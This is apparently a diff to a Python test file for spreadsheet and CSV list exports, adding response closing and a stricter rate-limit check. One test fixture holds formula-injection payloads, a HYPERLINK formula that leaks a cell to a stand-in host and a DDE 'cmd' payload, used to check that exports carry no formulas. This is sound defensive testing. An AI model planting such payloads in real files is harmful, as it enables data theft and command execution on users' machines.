@@ -1,6 +1,7 @@
 """Every list can be taken along, by those who may read its page, and says no more than the page."""
 
 import re
+from contextlib import closing
 from datetime import date
 from io import BytesIO
 
@@ -50,8 +51,8 @@ def test_headings_are_in_the_readers_language_unless_codes_are_wanted(client: Cl
 def test_a_workbook_holds_the_same_and_no_formula(client: Client) -> None:
     OrganisationFactory(name='=HYPERLINK("http://x.example/?"&A1)', town="+cmd|' /C calc'!A0")
 
-    answer = client.get("/lists/organisations.xlsx")
-    sheet = load_workbook(BytesIO(b"".join(answer.streaming_content))).active
+    with closing(client.get("/lists/organisations.xlsx")) as answer:
+        sheet = load_workbook(BytesIO(b"".join(answer.streaming_content))).active
 
     cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
     assert {cell.data_type for cell in cells} <= {"s", "n", "b", "d"}
@@ -161,7 +162,8 @@ def test_the_number_of_queries_does_not_grow_with_the_rows(client: Client) -> No
 
 
 def test_a_name_of_a_file_is_plain_and_says_the_day(client: Client) -> None:
-    answer = client.get("/de/lists/entries.xlsx")
+    with closing(client.get("/de/lists/entries.xlsx")) as answer:
+        pass
 
     day = date.today().isoformat()
     assert answer["Content-Disposition"] == f'attachment; filename="entries-{day}.xlsx"'
@@ -171,7 +173,7 @@ def test_a_name_of_a_file_is_plain_and_says_the_day(client: Client) -> None:
 def test_whoever_asks_without_end_is_asked_to_wait(client: Client) -> None:
     answers = [client.head("/lists/regions.csv").status_code for _ in range(views.MOST_IN_AN_HOUR + 1)]
 
-    assert (answers[-2], answers[-1]) == (200, 429)
+    assert (set(answers[:-1]), answers[-1]) == ({200}, 429)
 
 
 def test_every_declared_list_stands_on_a_page() -> None:
